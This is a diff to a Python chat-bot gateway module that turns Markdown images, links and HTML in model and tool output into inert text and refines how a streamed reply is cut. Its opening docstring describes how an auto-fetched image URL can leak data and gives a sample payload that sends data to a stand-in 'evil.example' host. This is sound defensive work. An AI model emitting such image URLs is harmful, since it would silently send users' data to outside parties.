@@ -6,10 +6,13 @@ dangerous part everywhere: the chat client fetches its URL by itself, so
 ``![x](http://evil.example/c?d=ALL_IPS)`` would send whatever the model put in
 the URL to a stranger without anyone clicking. Markdown images (inline and
 reference-style) and HTML tags that load a URL become plain text,
-``alt (image: url)``, which the client shows and never fetches.
+``alt (image: url)``, which the client shows and never fetches. Links, masked
+links and the rest of HTML follow :mod:`botgateway.cards.links`;
+:func:`inert_markup` applies both, and every adapter applies it (after its own
+mention rules) to model and tool text on its way out.
 
-Code is left as written: an image inside a code span or block is not drawn as
-one. :func:`sub_outside_code` lets each platform apply its own rules (Slack
+Code is left as written (:mod:`botgateway.cards.code_spans`): an image inside
+a code span or block is not drawn as one. :func:`sub_outside_code` lets each platform apply its own rules (Slack
 mentions, DingTalk's @所有人) the same way, with a separate, look-alike
 replacement for code where a platform still parses it. :func:`stable_cut`
 keeps an append-only stream from sending half of a construct that would be
@@ -19,15 +22,12 @@ rewritten once complete.
 from __future__ import annotations
 
 import re
-from bisect import bisect_right
-from collections.abc import Callable
 
+from botgateway.cards.code_spans import code_ranges, open_code_start, sub_outside_code
+from botgateway.cards.links import inert_links, open_link_start
 from botgateway.strings import t
 
-__all__ = ["code_ranges", "inert_images", "stable_cut", "sub_outside_code"]
-
-_FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})", re.MULTILINE)
-_BACKTICKS = re.compile(r"`+")
+__all__ = ["code_ranges", "inert_images", "inert_markup", "stable_cut", "sub_outside_code"]
 
 _ALT = r"(?P<alt>(?:[^\[\]\\\n]|\\.|\[(?:[^\[\]\\\n]|\\.)*\])*)"
 """Image alt text: brackets may nest once (``![a [b] c](u)``), escapes are kept."""
@@ -46,65 +46,12 @@ _BANG_BRACKET = re.compile(r"!\[")
 _MAX_PASSES = 8
 """Images nested in alt text unwrap one level per pass; past this, what is left is broken by force."""
 
-_UNCLOSED_TAIL = re.compile(r"(?:<[^<>\n]*|&[#a-zA-Z0-9]{0,8}|!\[[^\n]*|@[\w^.-]*|!)\Z")
-
-
-def code_ranges(text: str) -> list[tuple[int, int]]:
-    """``(start, end)`` of every code block and code span in ``text``, in order; an unclosed fence runs to the end."""
-    ranges: list[tuple[int, int]] = []
-    position = 0
-    while position < len(text):
-        fence = _FENCE_LINE.search(text, position)
-        limit = fence.start() if fence else len(text)
-        ranges.extend(_inline_code(text, position, limit))
-        if fence is None:
-            break
-        marker = fence.group(1)
-        closing = re.compile(r"^ {0,3}" + re.escape(marker[0]) + "{" + str(len(marker)) + r",}[ \t]*$", re.MULTILINE)
-        line_end = text.find("\n", fence.end())
-        close = closing.search(text, line_end + 1) if line_end != -1 else None
-        end = close.end() if close else len(text)
-        ranges.append((fence.start(), end))
-        position = end
-    return ranges
-
-
-def _inline_code(text: str, start: int, end: int) -> list[tuple[int, int]]:
-    """Code spans between ``start`` and ``end``: a backtick run closed by the next run of the same length."""
-    spans: list[tuple[int, int]] = []
-    runs = list(_BACKTICKS.finditer(text, start, end))
-    i = 0
-    while i < len(runs):
-        opening = runs[i]
-        closing = next((j for j in range(i + 1, len(runs)) if len(runs[j].group()) == len(opening.group())), None)
-        if closing is None:
-            i += 1  # an unmatched run is literal text (CommonMark)
-            continue
-        spans.append((opening.start(), runs[closing].end()))
-        i = closing + 1
-    return spans
-
-
-def _inside(ranges: list[tuple[int, int]], position: int) -> bool:
-    index = bisect_right([start for start, _ in ranges], position) - 1
-    return index >= 0 and ranges[index][0] <= position < ranges[index][1]
-
-
-def sub_outside_code(
-    pattern: re.Pattern[str],
-    text: str,
-    prose: Callable[[re.Match[str]], str],
-    code: Callable[[re.Match[str]], str] | None = None,
-) -> str:
-    """``pattern.sub`` with ``prose`` for matches that start outside code, ``code`` (default: unchanged) inside it."""
-    ranges = code_ranges(text) if "`" in text or "~~~" in text else []
-
-    def replace(match: re.Match[str]) -> str:
-        if ranges and _inside(ranges, match.start()):
-            return code(match) if code is not None else match.group(0)
-        return prose(match)
-
-    return pattern.sub(replace, text)
+_MAX_CUTS = 8
+"""Rounds of :func:`stable_cut` before it keeps to the last paragraph break."""
+_BLANK_LINE = re.compile(r"\n[ \t]*\n")
+_UNCLOSED_TAIL = re.compile(
+    r"(?:<[^<>\n]*|(?i:&lt;)(?:(?!(?i:&gt;))[^<>\n])*|&[#a-zA-Z0-9]{0,8}|!\[[^\n]*|@[\w^.-]*|!)\Z"
+)
 
 
 def _as_text(alt: str, url: str, locale: str) -> str:
@@ -166,12 +113,33 @@ def inert_images(text: str, locale: str) -> str:
     return sub_outside_code(_HTML_MEDIA, text, lambda m: "&lt;" + m.group()[1:])
 
 
-def stable_cut(text: str) -> int:
-    """How much of a still-growing ``text`` can be streamed: all but a trailing construct that is not closed yet.
+def inert_markup(text: str, locale: str) -> str:
+    """``text`` safe for any Markdown renderer: images as text (:func:`inert_images`), then links, masked links
+    and HTML by the link rule (:func:`~botgateway.cards.links.inert_links`). Platform rules (mentions) are the
+    adapters' own; applying it twice changes nothing more."""
+    return inert_links(inert_images(text, locale))
 
-    An image, a ``<…>`` control sequence, an entity or an ``@mention`` is
-    rewritten once complete; sending its first half would commit the stream
-    to text the rewrite no longer starts with.
+
+def stable_cut(text: str) -> int:
+    """How much of a still-growing ``text`` can be streamed: all but a trailing construct that is not decided yet.
+
+    An image, a link, a ``<…>`` control sequence or tag, an entity or an
+    ``@mention`` is rewritten once complete, and text after a backtick that
+    may still open a code span may yet become code; sending the first half
+    would commit the stream to text the rewrite no longer starts with. A cut
+    inside a link or a code span is taken again on what it keeps (which may
+    end in a construct of its own); past a few rounds, the stream keeps to the
+    last paragraph break, where nothing is open.
     """
-    match = _UNCLOSED_TAIL.search(text)
-    return match.start() if match else len(text)
+    cut, by_tail = len(text), False
+    for _ in range(_MAX_CUTS):
+        head = text[:cut]
+        holds = {open_code_start(head): False, open_link_start(head): False}
+        if not by_tail:  # what a tail cut keeps ends before a "<", "&", "!" or "@": decided by it
+            tail = _UNCLOSED_TAIL.search(head)
+            holds[tail.start() if tail else None] = True
+        shorter = min((hold for hold in holds if hold is not None), default=cut)
+        if shorter >= cut:
+            return cut
+        cut, by_tail = shorter, holds[shorter]
+    return min(cut, max((blank.end() for blank in _BLANK_LINE.finditer(text, 0, cut)), default=0))
